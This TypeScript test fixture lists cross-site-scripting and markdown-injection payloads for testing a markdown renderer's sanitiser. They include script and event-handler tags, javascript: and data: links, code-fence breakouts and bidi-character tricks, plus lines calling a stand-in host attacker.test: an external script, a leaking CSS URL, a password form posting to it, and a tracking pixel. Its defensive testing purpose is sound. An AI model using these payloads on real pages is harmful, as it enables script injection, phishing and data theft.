// Markdown that tries to do something to the page it is shown on. Used by the unit and by the browser tests.

export interface Attack {
  readonly name: string;
  readonly markdown: string;
}

const RAW_HTML: readonly string[] = [
  "<script>attacked()</script>",
  "<SCRIPT SRC=https://attacker.test/x.js></SCRIPT>",
  "<script/src=data:,attacked()>",
  "<scr<script>ipt>attacked()</scr</script>ipt>",
  "<img src=x onerror=attacked()>",
  '<img src=x onerror="attacked()"//>',
  "<img/src=`x`onerror=attacked()>",
  '<IMG SRC="jav\tascript:attacked();">',
  "<svg onload=attacked()>",
  "<svg><script>attacked()</script></svg>",
  "<svg><animate onbegin=attacked() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:attacked()"><text x=20 y=20>click</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='attacked()'/>#x\"/>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>",
  "<iframe src=javascript:attacked()></iframe>",
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  "<object data=javascript:attacked()></object>",
  "<embed src=javascript:attacked()>",
  "<body onload=attacked()>",
  "<details open ontoggle=attacked()>",
  "<video><source onerror=attacked()>",
  "<input autofocus onfocus=attacked()>",
  "<select autofocus onfocus=attacked()>",
  "<marquee onstart=attacked()>x</marquee>",
  '<div style="background:url(https://attacker.test/leak)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  "<link rel=stylesheet href=https://attacker.test/x.css>",
  "<style>@import 'https://attacker.test/x.css'; * { display: none }</style>",
  "<base href=https://attacker.test/>",
  '<meta http-equiv=refresh content="0;url=https://attacker.test/">',
  "<form action=https://attacker.test/><input name=password><button>Sign in</button></form>",
  "<a href=javascript:attacked()>x</a>",
  "<a id=bench name=bench>clobber</a><form name=root>x</form>",
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">',
  "<template><img src=x onerror=attacked()></template>",
  "<textarea></textarea><script>attacked()</script>",
  "<xmp><img src=x onerror=attacked()></xmp>",
  "<!--><img src=x onerror=attacked()>-->",
  "<![CDATA[><img src=x onerror=attacked()>]]>",
  '<?xml version="1.0"?><x onclick=attacked()>x</x>',
  "&lt;img src=x onerror=attacked()&gt;",
  "&#60;script&#62;attacked()&#60;/script&#62;",
];

const LINKS: readonly string[] = [
  "[x](javascript:attacked())",
  "[x](JaVaScRiPt:attacked())",
  "[x](javascript&colon;attacked())",
  "[x](javascript&#58;attacked())",
  "[x](java&#10;script:attacked())",
  "[x](&#x6A&#x61&#x76&#x61script:attacked())",
  "[x](\u0001javascript:attacked())",
  "[x](\u00a0javascript:attacked())",
  "[x](<java\tscript:attacked()>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)",
  "[x](data:image/svg+xml,<svg onload=attacked()>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://attacker.test/x)",
  "[x](view-source:https://attacker.test)",
  "[x](about:blank)",
  "[x](vscode://settings/run)",
  "[x](command:workbench.action.terminal.new)",
  "[x](//attacker.test/x)",
  "[x](\\\\\\\\attacker.test\\x)",
  "[x](http:javascript:attacked())",
  "[x](https://)",
  "[x](javascript://%0aattacked())",
  "[x](javascript%3Aattacked())",
  "[x]: javascript:attacked()\n\n[x]",
  '[x]: <javascript:attacked()> "title"\n\n[x][]',
  "<javascript:attacked()>",
  "<data:text/html,attacked()>",
  '[x](https://good.test "onmouseover=attacked()")',
  "[x](https://good.test '\"><img src=x onerror=attacked()>')",
  '["><img src=x onerror=attacked()>](https://good.test)',
  '[x](https://good.test"onclick="attacked())',
  "javascript:attacked() is not a link, and ftp://files.test is none",
  '[x](src/../../../etc/passwd#L1"onclick="attacked())',
];

const IMAGES: readonly string[] = [
  "![x](https://attacker.test/pixel.png)",
  "![x](javascript:attacked())",
  "![x](data:image/svg+xml,<svg onload=attacked()>)",
  '![x" onerror="attacked()](https://attacker.test/a.png)',
  "[![x](https://attacker.test/a.png)](javascript:attacked())",
  "![![x](https://attacker.test/b.png)](https://attacker.test/a.png)",
];

const CODE: readonly string[] = [
  "```\n</code></pre><script>attacked()</script>\n```",
  '```"><img src=x onerror=attacked()>\nx\n```',
  "```html onload=attacked()\n<img src=x onerror=attacked()>\n```",
  "~~~ <script>attacked()</script>\nx\n~~~",
  "    <script>attacked()</script>",
  "`<img src=x onerror=attacked()>`",
  '- ```"><svg/onload=attacked()>\n  <svg onload=attacked()>\n  ```',
  "```diff\n+<img src=x onerror=attacked()>\n```",
];

const OTHER: readonly string[] = [
  "| <img src=x onerror=attacked()> | b |\n|---|---|\n| <script>attacked()</script> | [x](javascript:attacked()) |",
  "- [ ] <input onfocus=attacked() autofocus>",
  '- [x"onclick=attacked()] x',
  "1. x\n999999999. <b onclick=attacked()>x</b>",
  "> <iframe src=https://attacker.test></iframe>",
  "# <img src=x onerror=attacked()>\n\n<img src=x onerror=attacked()>\n===",
  "access \u202elevel\u202c \u2066admin\u2069 [\u202etxt.exe](https://good.test/\u202e)",
  "```\nif (admin\u202e \u2066// check\u2069 \u2066) {\n```",
  "\u0000<script\u0000>attacked()</script>",
  "\ud800<script>attacked()</script>",
  "[a]: https://good.test\n[constructor]: https://good.test\n[__proto__]: https://good.test\n\n[__proto__] [constructor] [a]",
];

export const ATTACKS: readonly Attack[] = Object.entries({ RAW_HTML, LINKS, IMAGES, CODE, OTHER }).flatMap(
  ([kind, all]) =>
    all.map((markdown, index) => ({
      name: `${kind} ${index}: ${JSON.stringify(markdown).slice(0, 60)}`,
      markdown,
    })),
);
